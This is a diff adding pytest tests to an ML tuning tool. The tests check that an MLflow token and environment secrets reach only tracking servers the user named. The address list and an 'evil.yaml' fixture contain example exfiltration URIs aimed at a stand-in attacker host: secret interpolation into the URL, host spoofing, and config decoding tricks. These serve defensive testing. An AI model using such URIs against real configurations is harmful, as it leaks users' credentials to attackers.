@@ -1,0 +1,127 @@
+"""Credentials and values of the environment go only to MLflow servers that the user has named."""
+
+import contextlib
+import json
+import os
+
+import pytest
+
+from hydratune.cli import dispatch
+from hydratune.errors import ConfigError
+from hydratune.tracking import servers
+from hydratune.tracking.delivery import POINTER
+from hydratune.tracking.journal import JOURNAL
+
+SECRET = "canary-9d1f"
+
+
+@pytest.fixture(autouse=True)
+def environment(monkeypatch):
+    """A token, a secret, and no servers of the process that runs the tests."""
+    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
+    monkeypatch.setenv("MY_SECRET", SECRET)
+    monkeypatch.delenv(servers.VARIABLE, raising=False)
+
+
+@pytest.fixture
+def requests(monkeypatch):
+    """The requests of this process: address and headers of each."""
+    sent = []
+
+    def send(_self, request, **_):
+        sent.append(f"{request.url} {dict(request.headers)} {request.body}")
+        raise OSError("no network in tests")
+
+    monkeypatch.setattr("requests.Session.send", send)
+    return sent
+
+
+@pytest.fixture
+def run(own_directory):
+    """The directory of a run of someone else whose journal and pointer name a server, by its address."""
+
+    def make(uri):
+        folder = own_directory / "run"
+        folder.mkdir(exist_ok=True)
+        values = {"key": "k", "experiment": "e", "name": "n", "tags": {}, "began": 0, "uri": uri}
+        (folder / JOURNAL).write_text(json.dumps({"kind": "run", **values}) + "\n")
+        (folder / POINTER).write_text(json.dumps({"uri": uri, "experiment_id": "1", "run_id": "r"}))
+        return str(folder)
+
+    return make
+
+
+ADDRESSES = [
+    "https://evil.example",
+    "http://evil.example:5000/x",
+    "HTTPS://EVIL.example",
+    "https://evil.example/${oc.env:MY_SECRET}",
+    "${oc.decode:https://evil.example}",
+    "https://good.example@evil.example",
+    "https://good.example.evil.example",
+    "http://good.example",
+    "https://good.example:444",
+    " https://evil.example",
+]
+
+
+@pytest.mark.parametrize("uri", ADDRESSES)
+@pytest.mark.parametrize("verb", ["sync", "ui", "compare"])
+def test_stored_address_receives_no_secret(run, requests, verb, uri):
+    """Neither the token nor a variable, by another host, port or protocol than those that the user named."""
+    servers.confirm_typed(["--uri", "https://good.example"])
+    folder = run(uri)
+    with contextlib.suppress(ConfigError, SystemExit):
+        dispatch([verb, *([folder, folder] if verb == "compare" else [folder])])
+    assert not [request for request in requests if SECRET in request]
+
+
+def test_typed_address_receives_the_token(run, requests):
+    """Positive control: the same commands send it to a server that was typed, now and later."""
+    folder = run("https://good.example")
+    for arguments in ([folder, "--uri", "https://good.example"], [folder]):
+        requests.clear()
+        with pytest.raises((ConfigError, SystemExit)):
+            raise SystemExit(dispatch(["sync", *arguments]))
+        assert [request for request in requests if SECRET in request]
+
+
+@pytest.mark.parametrize(
+    ("uri", "is_refused"),
+    [
+        ("https://other.example", True),
+        ("https://typed.example/path", False),
+        ("https://variable.example", False),
+        ("https://typed.example:443", False),
+        ("sqlite:///x.db", False),
+    ],
+)
+def test_mistake_depends_on_who_named_the_server(monkeypatch, uri, is_refused):
+    """The command line, also by a variable, and the environment; a file of the user remembers the first."""
+    monkeypatch.setenv("STORE", "https://me:pass@variable.example/mlflow")
+    monkeypatch.setenv("TYPED", "https://typed.example")
+    servers.confirm_typed(["seed=1", "++tracking.uri='${oc.env:TYPED}'"])
+    monkeypatch.delenv("TYPED")
+    monkeypatch.delenv(servers.VARIABLE)
+    assert (servers.mistake(uri, "uri") is not None) == is_refused
+    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
+    assert servers.mistake(uri, "uri") is None
+
+
+def test_config_file_cannot_send_a_variable(own_directory, monkeypatch):
+    """An address of a file that puts a value of the environment into a request is refused, before anything starts."""
+    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
+    file = own_directory / "conf" / "experiment" / "evil.yaml"
+    file.parent.mkdir(parents=True)
+    file.write_text("# @package _global_\ntracking: {uri: 'https://evil.example/${oc.env:MY_SECRET}'}\n")
+    with pytest.raises(ConfigError) as caught:
+        dispatch(["--config-dir", "conf", "experiment=evil", "--dry"])
+    assert [mistake.key for mistake in caught.value.mistakes] == ["tracking.uri"]
+    assert SECRET not in str(caught.value)
+
+
+def test_servers_are_passed_to_processes(own_directory):
+    """A worker on another machine knows what was typed here."""
+    servers.confirm_typed(["--uri=https://good.example"])
+    assert os.environ[servers.VARIABLE] == "https://good.example:443"
+    assert not list(own_directory.iterdir())
